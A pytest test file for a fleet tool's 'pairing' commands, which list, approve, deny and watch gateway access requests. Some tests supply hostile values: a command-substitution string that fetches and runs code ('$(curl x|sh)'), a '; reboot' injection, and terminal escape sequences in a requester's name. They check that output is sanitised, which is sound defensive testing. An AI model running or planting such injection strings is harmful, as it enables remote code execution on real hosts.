"""`fleet pairing`: who asks, who is let in, and who is not."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

import pytest

from reconciler.errors import HostTimedOut
from reconciler.model import AccessPolicy, Users
from reconciler.sandbox.simulated.gateway import SimulatedGateway
from tests.fakes.command_line import CommandLine
from tests.fakes.fleets import FakeFleet
from tests.fakes.host import FakeHost

CODE: Final = "HDMC3TZP"
INTENDED = "pairing-intended"
OTHER: Final = "QRST2345"


@pytest.fixture
def fleet(state: Path, capsys: pytest.CaptureFixture[str]) -> CommandLine:
    world = FakeFleet(state)
    world.change("alice", users=Users(AccessPolicy.PAIRING, owner=4242))
    world.applied()
    gateway(world).is_asked(7007, CODE, "Mallory")
    world.clock.sleep(600)
    return CommandLine(world, capsys)


def gateway(world: FakeFleet, child: str = "alice") -> SimulatedGateway:
    return world.host(child).gateway


def host(fleet: CommandLine, child: str = "alice") -> FakeHost:
    return fleet.world.host(child)


def noted(fleet: CommandLine) -> list[tuple[str, object]]:
    events = fleet.world.ports().store.events()
    return [(it.event, it.fields["user"]) for it in events if it.event.startswith("pairing-") and it.event != INTENDED]


def test_who_asks_is_shown_with_code_age_and_what_is_left(fleet: CommandLine) -> None:
    said = fleet("pairing", "list")
    assert (said.code, said.err) == (0, "")
    header, row = said.out.splitlines()
    assert header.split() == ["CHILD", "CODE", "USER", "NAME", "ASKED", "EXPIRES"]
    assert row.split("  ")[0] == "alice"
    assert " ".join(row.split()) == f"alice {CODE} 7007 Mallory @mallory 10 min ago in 50 min"


def test_nobody_is_nobody(fleet: CommandLine) -> None:
    said = fleet("pairing", "list", "bob")
    assert (said.code, said.out) == (0, "Nobody asks.\n")


def test_a_request_that_has_expired_is_none(fleet: CommandLine) -> None:
    fleet.world.clock.sleep(3001)
    assert fleet("pairing", "list").out == "Nobody asks.\n"
    assert fleet("pairing", "approve", CODE, "--yes").code == 64
    assert host(fleet).gateway.lets_in == []


def test_json_says_all_of_it_of_every_child(fleet: CommandLine) -> None:
    told = json.loads(fleet("pairing", "list", "--json").out)
    assert told["bob"] == {"requests": [], "not_in_the_file": [], "odd": 0, "problem": None}
    [request] = told["alice"]["requests"]
    about = {"child": "alice", "code": CODE, "user": "7007", "name": "Mallory @mallory"}
    assert request == {**about, "age": 600, "left": 3000}


@pytest.mark.parametrize("word", [CODE, CODE.lower(), "7007"])
def test_who_is_approved_may_talk_and_is_no_owner(fleet: CommandLine, word: str) -> None:
    before = host(fleet).config()
    said = fleet("pairing", "approve", word, "--yes")
    assert (said.code, said.out) == (0, "Mallory @mallory (7007) may talk to alice now.\n")
    assert (host(fleet).gateway.lets_in, host(fleet).config(), host(fleet).messages) == (["7007"], before, [])
    assert noted(fleet) == [("pairing-approved", "7007")]
    assert "Nobody asks." in fleet("pairing", "list").out


def test_who_is_approved_is_told_where_that_is_asked_for(fleet: CommandLine) -> None:
    assert fleet("pairing", "approve", "alice", CODE, "--notify", "--yes").code == 0
    assert host(fleet).messages == [(7007, "OpenClaw access approved.")]


@pytest.mark.parametrize(("verb", "is_told"), [("approve", True), ("deny", False)])
def test_machines_are_told_who_was_answered(fleet: CommandLine, verb: str, is_told: bool) -> None:
    assert fleet("pairing", verb, "alice", CODE, "--json").code == 64  # nobody can be asked between their lines
    said = fleet("pairing", verb, "alice", CODE, "--yes", "--json", *(["--notify"] if is_told else []))
    about = {"child": "alice", "code": CODE, "user": "7007", "name": "Mallory @mallory", "is_told": is_told}
    told = json.loads(said.out)
    assert (said.code, {name: told[name] for name in about}) == (0, about)


def test_who_is_let_in_is_noted_before(fleet: CommandLine) -> None:
    """The gateway's own command line takes seconds: a run that dies meanwhile leaves who asked for it."""
    fleet("pairing", "approve", CODE, "--yes")
    assert [it.event for it in fleet.world.events()][-2:] == [INTENDED, "pairing-approved"]


def test_nobody_is_let_in_without_consent(fleet: CommandLine) -> None:
    said = fleet("pairing", "approve", CODE)
    assert (said.code, "give --yes" in said.err, host(fleet).gateway.lets_in) == (4, True, [])


def test_who_is_denied_does_not_ask_any_more(fleet: CommandLine) -> None:
    said = fleet("pairing", "deny", "alice", CODE, "--yes")
    assert (said.code, said.out) == (0, "Mallory @mallory (7007) does not ask alice any more.\n")
    assert (host(fleet).gateway.lets_in, noted(fleet)) == ([], [("pairing-denied", "7007")])


def test_a_code_that_nobody_has_is_refused_with_a_way_on(fleet: CommandLine) -> None:
    said = fleet("pairing", "approve", OTHER, "--yes")
    assert (said.code, "nobody asks with the code" in said.err, "fleet pairing list" in said.err) == (64, True, True)
    assert "not asked" not in said.err


def test_somebody_who_asks_twice_is_let_in_where_it_was_said(fleet: CommandLine) -> None:
    host(fleet, "bob").gateway.is_asked(7007, OTHER)
    said = fleet("pairing", "approve", "7007", "--yes")
    assert (said.code, "7007 asks at alice and bob" in said.err) == (64, True)
    assert fleet("pairing", "approve", "bob", "7007", "--yes").code == 0
    assert (host(fleet).gateway.lets_in, host(fleet, "bob").gateway.lets_in) == ([], ["7007"])


def test_whom_only_the_gateway_knows_is_shown(fleet: CommandLine) -> None:
    host(fleet).gateway.is_asked(4242, OTHER)
    for word in (CODE, OTHER):
        fleet("pairing", "approve", word, "--yes")
    said = fleet("pairing", "list")
    assert "alice lets 7007 in, who is not in the fleet file." in said.out
    assert "4242" not in said.out


def test_what_strangers_call_themselves_drives_no_terminal(fleet: CommandLine) -> None:
    host(fleet, "bob").gateway.is_asked(7008, OTHER, "\x1b[31m::error::\u202e")
    said = fleet("pairing", "list")
    assert not {"\x1b", "\u202e"} & set(said.out)
    assert " ::error" not in said.out
    assert not {"\x1b", "\u202e"} & set(fleet("pairing", "approve", OTHER, "--yes").out)


@pytest.mark.parametrize("answer", [b"", b"[]", b'{"requests": 5}', b'{"requests": [5], "approved": []}', b"[" * 9999])
def test_a_host_that_answers_nonsense_is_one_that_does_not_say(fleet: CommandLine, answer: bytes) -> None:
    host(fleet).says["read pairings"] = answer
    said = fleet("pairing", "list")
    assert (said.code, "alice" in said.out, "its host does not say who asks" in said.out) == (3, True, True)


def test_a_gateway_that_is_down_still_says_who_asks_and_answers_nobody(fleet: CommandLine) -> None:
    host(fleet).gateway.stop()
    assert CODE in fleet("pairing", "list").out
    said = fleet("pairing", "approve", CODE, "--yes")
    assert (said.code, "not done: the gateway does not answer on loopback" in said.err) == (1, True)
    assert noted(fleet) == [("pairing-not-answered", "7007")]


def test_a_refusal_is_in_the_gateways_words(fleet: CommandLine) -> None:
    host(fleet).gateway.refusal = "database is locked \x1b[31m"
    said = fleet("pairing", "approve", CODE, "--yes")
    assert (said.code, "not done: database is locked" in said.err, "\x1b" in said.err) == (1, True, False)


def test_a_connection_that_breaks_off_leaves_it_open_whether_it_was_done(fleet: CommandLine) -> None:
    call = "call channels.pairing.approve by the CLI"
    host(fleet).fails.append((call, HostTimedOut("the connection broke off")))
    said = fleet("pairing", "approve", CODE, "--yes")
    assert (said.code, "nobody can tell whether that was done" in said.err) == (1, True)
    assert "fleet pairing list alice" in said.err


def test_one_that_cannot_be_asked_keeps_nobody_else_from_it(fleet: CommandLine) -> None:
    host(fleet, "bob").fails.append(("read pairings", HostTimedOut("no answer")))
    said = fleet("pairing", "list")
    assert (said.code, CODE in said.out, "no answer" in said.out) == (3, True, True)


def test_who_has_no_server_is_left_out_by_name(fleet: CommandLine) -> None:
    del fleet.world.cloud.by_id[fleet.world.server("bob").id]
    said = fleet("pairing", "list")
    assert (said.code, said.err) == (0, "Not asked, for want of a server: bob\n")
    said = fleet("pairing", "list", "bob")
    assert (said.code, "bob has no server" in said.out) == (3, True)


def test_a_watch_says_who_comes_and_who_goes(fleet: CommandLine) -> None:
    began, news = fleet.world.clock.now().timestamp(), []
    client = fleet.world.client()
    with client.lines(kept=True) as lines:
        for found in client.pairings(lines).watch(("alice", "bob"), 5, 60):
            news.append((found.kind.value, found.child, found.request and found.request.code))
            if len(news) == 1:
                host(fleet, "bob").gateway.is_asked(7008, OTHER)
                fleet("pairing", "approve", CODE, "--yes")
    assert news == [("asks", "alice", CODE), ("gone", "alice", CODE), ("asks", "bob", OTHER)]
    assert 55 <= fleet.world.clock.now().timestamp() - began <= 60


def test_a_watch_tells_of_silence_once_and_of_its_end(fleet: CommandLine) -> None:
    news = []
    client = fleet.world.client()
    host(fleet).fails += [("read pairings", HostTimedOut("no answer"))] * 2
    with client.lines(kept=True) as lines:
        news = [(it.kind.value, it.problem) for it in client.pairings(lines).watch(("alice",), 5, 20)]
    assert news == [("unheard", "no answer"), ("heard", ""), ("asks", "")]


def test_a_watch_on_the_command_line(fleet: CommandLine) -> None:
    said = fleet("pairing", "watch", "--timeout", "0")
    assert (said.code, said.out) == (
        0,
        f"alice: Mallory @mallory (7007) asks: fleet pairing approve alice {CODE} (expires in 50 min)\n",
    )
    [line] = fleet("pairing", "watch", "--timeout", "0", "--json").out.splitlines()
    assert json.loads(line)["request"]["code"] == CODE


@pytest.mark.parametrize(
    ("user", "code"), [(7007, "$(curl x|sh)"), (7007, "; reboot"), (7007, ""), (0, CODE), (-5, CODE)]
)
def test_what_no_gateway_writes_is_never_shown_to_be_copied(fleet: CommandLine, user: int, code: str) -> None:
    host(fleet, "bob").gateway.is_asked(user, code)
    host(fleet, "bob").gateway.is_asked(7008, OTHER)
    for arguments in (("list",), ("watch", "--timeout", "0")):
        said = fleet("pairing", *arguments)
        assert (code and code != CODE and code in said.out + said.err, CODE in said.out) == (code and False, True)
        assert OTHER in said.out, "one odd request hides no other"
    told = fleet("pairing", "list", "bob")
    assert (told.code, "bob: one request in its database with no Telegram user" in told.err) == (0, True)


@pytest.mark.parametrize("answer", [b'{"requests": 5}', b"garbage", b"[]"])
def test_a_gateway_that_answers_nonsense_has_done_nothing(fleet: CommandLine, answer: bytes) -> None:
    host(fleet).says["call channels.pairing.list by the CLI"] = answer
    said = fleet("pairing", "approve", CODE, "--yes")
    assert (said.code, "the gateway does not say who asks" in said.err) == (1, True)


def test_an_answer_that_confirms_nothing_leaves_it_open(fleet: CommandLine) -> None:
    host(fleet).says["call channels.pairing.approve by the CLI"] = b"garbage"
    said = fleet("pairing", "approve", CODE, "--yes")
    assert (said.code, "nobody can tell whether that was done" in said.err) == (1, True)
    assert noted(fleet) == [("pairing-not-answered", "7007")]


def test_a_glob_that_only_finds_servers_is_refused(fleet: CommandLine) -> None:
    del fleet.world.specs["bob"]
    said = fleet("pairing", "list", "bo*")
    assert (said.code, "declares none of them: bob" in said.err) == (64, True)


def test_a_watch_finds_the_server_that_took_the_place_of_another(fleet: CommandLine) -> None:
    client, world = fleet.world.client(), fleet.world
    news = []
    with client.lines(kept=True) as lines:
        for found in client.pairings(lines).watch(("alice",), 5, 600):
            news.append((found.kind.value, found.request and found.request.code))
            if len(news) == 1:
                host(fleet).fails.append(("read pairings", HostTimedOut("the connection broke off")))
                del world.cloud.by_id[world.server("alice").id]
                world.apply()
                host(fleet).gateway.is_asked(7008, OTHER)
    assert news == [("asks", CODE), ("unheard", None), ("heard", None), ("gone", CODE), ("asks", OTHER)]
